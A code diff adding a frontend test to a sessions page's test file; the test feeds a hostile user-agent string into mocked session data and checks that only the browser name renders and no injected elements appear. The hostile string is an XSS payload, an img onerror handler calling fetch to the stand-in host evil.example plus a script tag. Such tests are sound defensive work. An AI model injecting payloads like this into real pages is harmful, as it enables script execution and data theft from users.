@@ -38,3 +38,12 @@ test("a server that cannot be reached is said, with a way to try again", async (
   await render(<SessionsPage />, { room: "staff" });
   expect(await screen.findByText("見つかりません")).toBeVisible();
 });
+
+test("B25: what a browser said of itself is shown as nothing but a browser", async () => {
+  const hostile = '<img src=x onerror="fetch(`//evil.example`)"> Chrome/140.0 <script>alert(1)</script>';
+  server({ "GET /api/v1/sessions": { items: [{ ...here, user_agent: hostile, ip: hostile }] } });
+  const { container } = await render(<SessionsPage />, { room: "staff" });
+
+  expect(await screen.findByText("Chrome")).toBeVisible();
+  expect(container.querySelector("img, script")).toBeNull();
+});
